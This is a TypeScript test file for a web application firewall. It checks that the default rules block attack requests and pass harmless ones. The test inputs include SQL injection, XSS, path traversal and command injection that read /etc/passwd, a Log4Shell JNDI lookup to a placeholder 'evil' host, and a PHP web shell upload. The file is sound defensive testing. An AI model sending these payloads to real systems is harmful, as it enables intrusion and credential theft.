import { test } from 'node:test';
import assert from 'node:assert/strict';
import { loadWafEngine } from '../../../src/waf/load.js';
import { repoRoot } from '../../../src/paths.js';
import { run, ids } from './helpers.js';

// The default rule set (policies/waf/*.conf) as the proxy loads it when waf.rules is absent.
const { engine, files } = loadWafEngine({ mode: 'block' }, repoRoot);

const attacks: [string, { method?: string; uri?: string; headers?: [string, string][]; body?: string }, number][] = [
  ['sqli in a query arg', { uri: "/items?id=1'%20or%20'1'='1" }, 100200],
  ['xss in a query arg', { uri: '/search?q=%3Cscript%3Ealert(1)%3C/script%3E' }, 100211],
  ['path traversal', { uri: '/files?name=..%2f..%2fetc%2fpasswd' }, 100220],
  ['command injection', { uri: '/ping?host=127.0.0.1;cat%20/etc/passwd' }, 100230],
  ['log4shell in a header', { headers: [['Host', 'x'], ['X-Api-Version', '${jndi:ldap://evil/a}']] }, 100240],
  ['php upload', {
    method: 'POST',
    headers: [['Host', 'x'], ['Content-Type', 'multipart/form-data; boundary=b']],
    body: '--b\r\nContent-Disposition: form-data; name="f"; filename="shell.php"\r\n\r\n<?php system($_GET[1]); ?>\r\n--b--\r\n',
  }, 100280],
  ['scanner', { headers: [['Host', 'x'], ['User-Agent', 'sqlmap/1.7']] }, 100270],
  ['json sqli', { method: 'POST', headers: [['Host', 'x'], ['Content-Type', 'application/json']], body: '{"user":"admin\' OR 1=1 --"}' }, 100200],
  ['method', { method: 'TRACE' }, 100100],
];

test('baseline rules load from policies/waf', () => {
  assert.ok(files.length >= 3);
  assert.ok(engine.ruleCount >= 15);
});

test('baseline rules block common attacks (403 by rule 109900)', () => {
  for (const [name, req, rule] of attacks) {
    const tx = run(engine, req);
    assert.ok(ids(tx).includes(rule), `${name}: rule ${rule} in ${ids(tx).join(',')}`);
    assert.equal(tx.interruption?.ruleId, 109900, `${name}: blocked`);
    assert.equal(tx.interruption?.status, 403);
  }
});

test('baseline rules let ordinary traffic through', () => {
  const benign = [
    { uri: '/products/42?color=blue&size=m' },
    { uri: '/search?q=how+to+select+a+good+table' },
    { method: 'POST', headers: [['Host', 'x'], ['Content-Type', 'application/json']] as [string, string][], body: '{"order":{"id":7,"note":"ring twice, then wait"}}' },
    { method: 'POST', headers: [['Host', 'x'], ['Content-Type', 'application/x-www-form-urlencoded']] as [string, string][], body: 'name=O%27Brien&city=Saint-%C3%89tienne' },
  ];
  for (const req of benign) {
    const tx = run(engine, req);
    assert.equal(tx.interruption, undefined, `${JSON.stringify(req)} matched ${ids(tx).join(',')}`);
  }
});
